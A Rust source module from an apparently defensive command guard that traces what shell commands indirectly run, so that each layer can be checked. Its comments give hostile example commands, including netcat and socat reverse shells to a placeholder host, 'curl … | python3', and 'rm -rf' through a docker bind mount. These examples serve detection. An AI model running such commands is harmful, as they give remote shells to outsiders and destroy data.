//! Sees through commands that run other commands: shells given a command string, `eval`,
//! wrappers such as `sudo` and `timeout`, `find -exec`, `xargs`, git aliases.
//!
//! For one command this stage answers "what else does it run?" as a list of [`Execution`]s.
//! The walker turns each into a layer of its own (a command, or code to parse) and judges what
//! is inside; the checkers then see every layer.

mod ansible;
pub(crate) mod catalogue;
mod containers;
mod environment;
pub mod finders;
pub mod git;
mod index;
mod languages;
mod launchers;
pub mod loaded;
mod programs;
mod project_toml;
pub mod projects;
mod runners;
mod schedulers;
mod servers;
mod shells;
pub mod table;
mod terminals;
pub(crate) mod tool_options;
mod virtualenvs;
mod windows;
pub(crate) mod wrappers;

use crate::command::Command;
use table::Family;

use crate::language::Language;
use crate::word::Word;

/// Something a command runs.
#[derive(Clone, Debug)]
pub enum Execution {
    /// A command given as words (`sudo rm -rf x` runs `rm -rf x`).
    Command {
        via: String,
        argv: Vec<Word>,
        /// Environment assignments for that command (`env FOO=1 cmd`).
        assignments: Vec<(String, Word)>,
        /// A directory it runs in instead of the current one (`env -C dir`, `sudo -D dir`).
        cwd: Option<Word>,
    },
    /// Shell code given as words, joined with spaces (`bash -c '…'`, `eval a b`, `ssh host cmd`).
    Code {
        via: String,
        words: Vec<Word>,
        /// `$0`, `$1`, … inside the code (`bash -c 'rm -rf "$1"' _ /`).
        positional: Vec<Word>,
        /// Whether the code runs in the current shell (`eval`, `source`): its `cd` and variables
        /// stay for the commands after it.
        current_shell: bool,
    },
    /// Code read from standard input (`… | sh`, `bash <<EOF`, `curl … | python3`).
    Stdin { via: String, language: Language },
    /// Code read from a file named by a word (`source <(curl …)`, `bash script.sh`).
    File {
        via: String,
        path: Word,
        language: Language,
        current_shell: bool,
    },
    /// Code of another language given as words (`python3 -c '…'`, `perl -e '…' -e '…'`, an
    /// awk program), one line each.
    Program {
        via: String,
        language: Language,
        code: Vec<Word>,
        /// The words after the code, which the program sees as its arguments.
        args: Vec<Word>,
    },
    /// The program itself, named by a path, which may be a script (`./deploy.sh`): its
    /// `#!` line tells the language.
    Script { path: Word },
    /// Hook scripts git runs by name from a folder (`git -c core.hooksPath=DIR commit` runs
    /// `DIR/pre-commit`…; a template folder's `hooks/` is copied into a new repository).
    Hooks {
        via: String,
        dir: Word,
        /// The files run, relative to `dir` (`pre-commit`, `hooks/pre-push`).
        names: Vec<String>,
    },
    /// A git configuration file git reads (`git -c include.path=FILE log`): its settings may
    /// run commands for `subcommand`, as the same settings given with `-c` would.
    GitConfigFile {
        via: String,
        path: Word,
        subcommand: String,
    },
    /// Code downloaded and run unread (`yum install http://…/x.rpm` runs its install scripts).
    Network { how: String },
    /// A shell or interpreter whose input and output are a network connection (`nc -e
    /// /bin/sh host 4444`, `socat TCP:h:p EXEC:bash`), or remote access to this machine
    /// (`code tunnel`): whoever is at the other end runs commands unseen.
    SocketShell { how: String },
    /// Something it runs that cannot be read before it runs (a library loaded into it).
    Unverifiable { what: String },
    /// Part of a project file that the command runs (`npm test` runs `package.json`'s
    /// `scripts.test`, `make x` the recipes of `x`), in `directory` when given.
    ProjectFile {
        via: String,
        part: projects::ProjectPart,
        directory: Option<Word>,
    },
    /// A container given the host (privileged, the host's processes, its root or the runtime's
    /// socket mounted): what it runs can change the machine itself.
    HostAccess { how: String },
    /// A command run inside a container (`docker exec box cmd`): its paths are the
    /// container's, but for those under a bind mount, already written as the host's.
    InContainer {
        via: String,
        argv: Vec<Word>,
        /// A word of its command line names a path under a bind mount, written as the host's
        /// (`docker run -v /:/host alpine rm -rf /host/etc` deletes the host's `/etc`).
        reaches_host: bool,
        /// Its words name the host's paths only under read-only bind mounts: it may read them
        /// but changes none of them.
        host_read_only: bool,
        /// The host folder the container works in, when its working directory (`-w`) is under
        /// a bind mount: its relative paths are the host's too.
        host_cwd: Option<Word>,
    },
}

/// What `command` runs besides itself.
pub fn executions(command: &Command) -> Vec<Execution> {
    let known = known_executions(command);
    let table = table::executions(command, FAMILIES, index::INDEX);
    let environment = environment::executions(command);
    // Code files it loads as it starts, when this command wrote them (`conftest.py`).
    let loaded = loaded::executions(command);
    if known.is_none() && table.is_none() && environment.is_empty() {
        // A program named by a path may be a script.
        let mut found = match command.argv.first() {
            Some(program) if program.value().is_some_and(|path| path.contains('/')) => {
                vec![Execution::Script { path: program.clone() }]
            }
            _ => Vec::new(),
        };
        found.extend(loaded);
        return found;
    }
    let mut found = known.unwrap_or_default();
    found.extend(table.unwrap_or_default());
    found.extend(environment);
    found.extend(loaded);
    found
}

/// Whether `command` runs what it is given on another machine (`ssh host 'cmd'`, `ansible
/// web1 -m shell -a 'cmd'`).
pub fn runs_remotely(command: &Command) -> bool {
    matches!(
        command.name.as_str(),
        "ssh" | "autossh" | "mosh" | "dbclient" | "slogin" | "rsh" | "vagrant" | "gcloud" | "fly" | "flyctl" | "heroku"
    ) || ansible::runs_remotely(command)
}

/// What the registry knows the program `name` to do, whatever its arguments.
#[derive(Default, Clone, Copy)]
pub struct Roles {
    /// Runs a command or code it is given.
    pub runs: bool,
    /// Writes a file it is given.
    pub writes: bool,
    /// Reads a file it is given.
    pub reads: bool,
    /// Loads a library it is given.
    pub loads: bool,
    /// Sends a file or its arguments to a network peer, or publishes a folder.
    pub sends: bool,
    /// Fetches what it runs from the network (a package given by URL).
    pub fetches: bool,
}

/// The roles of the program `name` in the registry.
pub fn roles(name: &str) -> Roles {
    let mut roles = Roles {
        runs: crate::language::is_shell(name)
            || Language::of_interpreter(name).is_some()
            || shells::BUILTINS.contains(&name)
            || matches!(
                name,
                "find"
                    | "fd"
                    | "fdfind"
                    | "xargs"
                    | "parallel"
                    | "git"
                    | "nix-shell"
                    | "nix"
                    | "npm"
                    | "pnpm"
                    | "yarn"
                    | "make"
                    | "gmake"
                    | "just"
                    | "go-task"
            )
            || wrappers::knows(name)
            || environment::runs_a_variable(name)
            || windows::PROGRAMS.contains(&name)
            || windows::LAUNCHERS.contains(&name),
        // Windows' shells are read for the files their code writes and reads.
        writes: windows::PROGRAMS.contains(&name),
        reads: windows::PROGRAMS.contains(&name),
        ..Roles::default()
    };
    // An interpreter's code is read for what its language is read for (Python's `ctypes`).
    if let Some(language) = Language::of_interpreter(name) {
        roles.loads |= crate::interpreters::capabilities(language).loads;
    }
    for entry in table::entries_of(name, FAMILIES, index::INDEX) {
        for carrier in entry.carriers {
            match carrier {
                table::Carrier::WritesOption(_)
                | table::Carrier::WritesOperand(_)
                | table::Carrier::WritesOperands
                | table::Carrier::WritesOptionWith { .. }
                | table::Carrier::WritesOperandWith { .. }
                | table::Carrier::WritesOptionUnless { .. }
                | table::Carrier::WritesFetched { .. }
                | table::Carrier::WritesPrefixed(_) => roles.writes = true,
                table::Carrier::RewritesOperands { .. } => {
                    roles.writes = true;
                    roles.reads = true;
                }
                table::Carrier::ReadsOption(_) | table::Carrier::ReadsOperand(_) | table::Carrier::ReadsPrefixed(_) => {
                    roles.reads = true
                }
                table::Carrier::LoadsLibrary(_)
                | table::Carrier::LoadsFrom(_)
                | table::Carrier::LoadsPrefixed(_)
                | table::Carrier::LoadsOperands => roles.loads = true,
                table::Carrier::SendsOption(_)
                | table::Carrier::SendsOperand(_)
                | table::Carrier::ServesOption(_)
                | table::Carrier::ServesOperand(_)
                | table::Carrier::ServesHere { .. }
                | table::Carrier::ServesPrefixed(_)
                | table::Carrier::SendsArguments
                | table::Carrier::SendsOptionWith { .. }
                | table::Carrier::SendsPrefixed(_)
                | table::Carrier::SendsToRemote { .. } => roles.sends = true,
                table::Carrier::ListensOn(_) => {}
                table::Carrier::DumpsProcessMemory
                | table::Carrier::ReadsOperandsWith { .. }
                | table::Carrier::ReadsOperandsBefore { .. } => roles.reads = true,
                table::Carrier::RemoteArchive { .. } => {
                    roles.sends = true;
                    roles.fetches = true;
                }
                carrier => {
                    roles.runs = true;
                    roles.fetches |= matches!(
                        carrier,
                        table::Carrier::InstallsPackages { .. } | table::Carrier::RemoteAccess { .. }
                    );
                    roles.sends |= matches!(carrier, table::Carrier::RemoteAccess { .. });
                    // Code the program runs is read for the files it reads and writes and the
                    // libraries it loads: a shell's commands are judged one by one.
                    if let Some(language) = carrier.language() {
                        let can = crate::interpreters::capabilities(language);
                        roles.reads |= can.reads;
                        roles.writes |= can.writes;
                        roles.loads |= can.loads;
                        roles.sends |= can.sends;
                    }
                }
            }
        }
    }
    roles
}

/// Whether the registry describes the program `name`: what it runs is known, so its arguments
/// are never guessed at.
pub fn knows(name: &str) -> bool {
    crate::language::is_shell(name)
        || Language::of_interpreter(name).is_some()
        || shells::BUILTINS.contains(&name)
        || matches!(
            name,
            "find" | "fd" | "fdfind" | "rg" | "ripgrep" | "xargs" | "parallel" | "git" | "nix-shell" | "nix"
        )
        || wrappers::knows(name)
        || table::has_entry(name, FAMILIES, index::INDEX)
        || TEXT_PROGRAMS.contains(&name)
        || NOT_READ.contains(&name)
        || windows::PROGRAMS.contains(&name)
        || windows::LAUNCHERS.contains(&name)
        || PLAIN_PROGRAMS.contains(&name)
}

/// Programs whose arguments are files, names, numbers or options, never a command to run
/// (`touch 'rm -rf ~'` makes a file of that name): nothing in them is guessed to be one.
pub const PLAIN_PROGRAMS: &[&str] = &[
    "touch",
    "mkdir",
    "cat",
    "tac",
    "ls",
    "dir",
    "head",
    "tail",
    "wc",
    "stat",
    "file",
    "du",
    "df",
    "diff",
    "cmp",
    "comm",
    "sort",
    "uniq",
    "cut",
    "paste",
    "join",
    "split",
    "nl",
    "od",
    "hexdump",
    "xxd",
    "base64",
    "md5sum",
    "sha1sum",
    "sha256sum",
    "sha512sum",
    "cksum",
    "basename",
    "dirname",
    "realpath",
    "readlink",
    "tree",
    "less",
    "more",
    "code",
    "open",
    "xdg-open",
    "unzip",
    "gzip",
    "gunzip",
    "bzip2",
    "xz",
    "zstd",
    "sleep",
    "date",
    "cal",
    "uname",
    "whoami",
    "id",
    "hostname",
    "pwd",
    "true",
    "false",
    "yes",
    "seq",
    "tr",
    "fmt",
    "fold",
    "column",
    "iconv",
    "dos2unix",
    "which",
    "type",
    "whereis",
    "cd",
    "pushd",
    "popd",
    "mv",
    "cp",
    "ln",
    "rm",
    "rmdir",
    "chmod",
    "chown",
    "cargo",
    "rustc",
    "rustup",
    "go",
    "gcc",
    "g++",
    "clang",
    "javac",
    "java",
    "mvn",
    "gradle",
    "pip",
    "pip3",
    "pytest",
    "tsc",
    "eslint",
    "prettier",
    "black",
    "ruff",
    "mypy",
    "jest",
    "vitest",
    "npm",
    "pnpm",
    "yarn",
    "bun",
    "dotnet",
    "swift",
    "kill",
    "pkill",
    "pgrep",
    "pidof",
    "killall",
    "fuser",
    "taskkill",
    "tskill",
    "ps",
    "top",
    "htop",
    "lsof",
    "netstat",
    "ss",
    "ping",
    "dig",
    "nslookup",
    "host",
    "traceroute",
];

/// Command interpreters whose language is not read here (Windows Script Host's): their
/// strings are not bash, so no bash command is guessed in them.
const NOT_READ: &[&str] = &["wscript", "cscript"];

/// Programs whose arguments are text (a message, a pattern, a filter, a prompt, data to send),
/// never a command: nothing in them is guessed to be one.
pub const TEXT_PROGRAMS: &[&str] = &[
    // This guard: `safety-net explain 'rm -rf /'` judges the command, and runs nothing.
    "safety-net",
    "echo",
    "printf",
    "logger",
    "wall",
    "write",
    "notify-send",
    "say",
    "espeak",
    "cowsay",
    "figlet",
    "toilet",
    "banner",
    "zenity",
    "kdialog",
    "whiptail",
    "gh",
    "glab",
    "tea",
    "hub",
    "jira",
    "linear",
    "mail",
    "mailx",
    "mutt",
    "sendmail",
    "msmtp",
    "swaks",
    "grep",
    "egrep",
    "fgrep",
    "zgrep",
    "ag",
    "ack",
    "jq",
    "yq",
    "gojq",
    "jaq",
    "curl",
    "wget",
    "http",
    "https",
    "xh",
    "claude",
    "codex",
    "gemini",
    "aider",
    "llm",
    "ollama",
    "sgpt",
    "todo.sh",
    "task",
    "jrnl",
    "nb",
    "expr",
    "test",
    "[",
];

pub use schedulers::MCP_ADD;
pub use shells::{SSH_OPTIONS, direnv_allowed};
pub use table::is_library_file;

/// The files `command` writes, reads, sends and publishes by the registry's table, and the
/// folder an interpreter's built-in web server or a file server publishes (`python3 -m
/// http.server`, `rclone serve http ~ --addr :8080`).
pub fn files(command: &Command) -> table::Files {
    let mut files = table::files(command, FAMILIES, index::INDEX);
    files.served.extend(programs::served_folder(command));
    files.served.extend(servers::served_folder(command));
    files
}

/// The families of the registry's table, in the order they are consulted.
pub const FAMILIES: &[Family] = &[
    Family {
        name: "launchers",
        entries: launchers::ENTRIES,
        in_container: false,
    },
    Family {
        name: "terminals",
        entries: terminals::ENTRIES,
        in_container: false,
    },
    Family {
        name: "schedulers",
        entries: schedulers::ENTRIES,
        in_container: false,
    },
    Family {
        name: "runners",
        entries: runners::ENTRIES,
        in_container: false,
    },
    Family {
        name: "tool options",
        entries: tool_options::ENTRIES,
        in_container: false,
    },
    Family {
        name: "languages",
        entries: languages::ENTRIES,
        in_container: false,
    },
    Family {
        name: "containers",
        entries: containers::ENTRIES,
        in_container: true,
    },
    Family {
        name: "catalogue",
        entries: catalogue::ENTRIES,
        in_container: false,
    },
];

/// What the hand-written readers find (shells, interpreters, finders, git, wrappers), or
/// `None` when none of them knows the program.
fn known_executions(command: &Command) -> Option<Vec<Execution>> {
    if let Some(found) = shells::executions(command) {
        return Some(found);
    }
    if let Some(mut found) = programs::executions(command) {
        // `node --run x`, `bun run x`, `deno task x`: the runtimes run a project's scripts too.
        found.extend(projects::executions(command).unwrap_or_default());
        return Some(found);
    }
    if let Some(found) = finders::executions(command) {
        return Some(found);
    }
    if let Some(found) = projects::executions(command) {
        return Some(found);
    }
    if command.name == "git" {
        return Some(git::executions(command));
    }
    if let Some(found) = windows::executions(command) {
        return Some(found);
    }
    if let Some(found) = virtualenvs::executions(command) {
        return Some(found);
    }
    if let Some(found) = ansible::executions(command) {
        return Some(found);
    }
    wrappers::executions(command).map(|found| vec![found])
}

/// The words of the command a privilege wrapper runs, and whether it asked for a login or
/// interactive shell (`sudo -i`, `sudo -s`, `doas -s`).
pub fn privileged_command(command: &Command) -> Option<(Vec<Word>, bool)> {
    wrappers::privileged_command(command)
}

/// The registry as a Markdown table (`safety-net registry --markdown`, the README): every
/// program it knows, by family, and what each runs.
pub fn markdown() -> String {
    use std::fmt::Write;
    let mut out = String::from("| family | programs | what they run |\n|---|---|---|\n");
    let mut row = |family: &str, programs: &str, what: &str| {
        let _ = writeln!(
            out,
            "| {family} | {} | {} |",
            programs.replace('|', "\\|"),
            what.replace('|', "\\|")
        );
    };
    row(
        "shells",
        &crate::language::shells().join(", "),
        "`-c` code, a script, standard input (`… | sh`, `sh <<EOF`)",
    );
    row(
        "shell builtins",
        "eval, source, ., trap, alias, su, runuser, ssh, watch, script, tmux, byobu, screen",
        "code given as words (`eval`, `trap`, `su -c`, `ssh host cmd`, `watch cmd`, `script -c`), a sourced file, `tmux new`/`neww`/`splitw`/`respawnp`/`send-keys … Enter`, `screen cmd…`, `screen -X stuff`/`exec`/`screen`",
    );
    row(
        "windows shells",
        &windows::PROGRAMS.join(", "),
        "PowerShell code (`-Command`, `-EncodedCommand` decoded, `-File`, standard input; options by any prefix, with `-` or `/`), `cmd /c|/k|/r` command lines, `wsl -e PROGRAM…` and the command line `wsl [--] …` gives the distribution's shell",
    );
    row(
        "windows launchers",
        &windows::LAUNCHERS.join(", "),
        "`forfiles /c` and `wmic process call create` command lines, `mshta` (an address fetches code, script code asks), `msiexec /i URL`, `regsvr32 /i:URL|FILE`, `rundll32 javascript:…` and the entry points that start a program (`url.dll,FileProtocolHandler PROGRAM`), `wscript`/`cscript` scripts (not read: they ask)",
    );
    row(
        "interpreters",
        "python, python3.X, pypy, py, node, deno, bun, ruby, perl, php, lua, luajit, awk, gawk, mawk",
        "inline code (`-c`, `-e`, `-r`…), a script, standard input: read for the calls that run commands, delete, write or read files, and download",
    );
    row(
        "finders",
        "find, fd, rg, xargs, parallel",
        "`-exec`/`-execdir`/`-ok`/`-okdir`, `-x`/`-X`, `rg --pre` (a program run on each file searched), the command `xargs` and `parallel` run per input",
    );
    row(
        "git",
        "git",
        "keys that hold commands (`core.pager`, `core.sshCommand`, `diff.*.textconv`, `!` aliases and credential helpers…) set by `-c`, `--config-env`, `git config`, `GIT_CONFIG_COUNT`/`KEY_n`/`VALUE_n` or `GIT_CONFIG_PARAMETERS`; `GIT_SSH_COMMAND`, `GIT_PAGER`, `GIT_EDITOR`…; the command of an `ext::` remote; the hooks of a `core.hooksPath` folder the subcommand runs, of a template's `hooks/` (`init.templateDir`, `--template`, `GIT_TEMPLATE_DIR`), the settings of an `include.path` file",
    );
    row(
        "environment",
        "any program given PAGER, MANPAGER, EDITOR, VISUAL, BROWSER, SSH_ASKPASS, LESSOPEN, PROMPT_COMMAND, GIT_* command variables, RSYNC_RSH, SVN_SSH, BORG_RSH, the password commands of borg, restic and rclone, LD_PRELOAD, NODE_OPTIONS, PYTHONSTARTUP, PERL5OPT, TAR_OPTIONS, JAVA_TOOL_OPTIONS, a `BASH_FUNC_NAME%%` function, on the command or exported before it",
        "a command in the variable's value; a library loaded into the program (asks); modules `NODE_OPTIONS` requires (a `data:` URL's code read); the file `PYTHONSTARTUP` names; the code of `PERL5OPT`'s `-M`; `TAR_OPTIONS` and `JAVA_TOOL_OPTIONS` read as the options of tar and java; the body of a function bash imports",
    );
    row(
        "projects",
        "npm, pnpm, yarn, make, gmake, just, task, go-task",
        "`package.json` scripts (`run x`, `test`, `start`, the install lifecycle, `yarn x`), a make target's or `just` recipe's recipes with their prerequisites, a `Taskfile.yml` task's commands, checks and the tasks it calls; `npm pkg set scripts.x=…`",
    );
    row(
        "text",
        &TEXT_PROGRAMS.join(", "),
        "nothing: their arguments are text (a message, a pattern, a filter, a prompt, data to send)",
    );
    row(
        "plain",
        &PLAIN_PROGRAMS.join(", "),
        "nothing: their arguments are files, names, numbers or options",
    );
    for (programs, what) in wrappers::rows() {
        row("wrappers", &programs, &what);
    }
    for family in FAMILIES {
        for entry in family.entries {
            let mut programs = entry.names.join(", ");
            if !entry.subcommand.is_empty() {
                programs = format!("{programs}: `{}`", entry.subcommand.join(" "));
            }
            let what: Vec<String> = entry.carriers.iter().map(|carrier| carrier.describe()).collect();
            row(family.name, &programs, &what.join("; "));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `index.rs` is the tables' index as `table::index_source` writes it.
    #[test]
    fn registry_index_is_current() {
        let path = concat!(env!("CARGO_MANIFEST_DIR"), "/src/registry/index.rs");
        let source = table::index_source(FAMILIES);
        if std::env::var_os("UPDATE_REGISTRY_INDEX").is_some() {
            std::fs::write(path, &source).expect("src/registry/index.rs is writable");
        }
        let current = std::fs::read_to_string(path).expect("src/registry/index.rs is readable");
        assert!(
            current == source,
            "src/registry/index.rs is out of date: run `UPDATE_REGISTRY_INDEX=1 cargo test registry_index`"
        );
    }
}
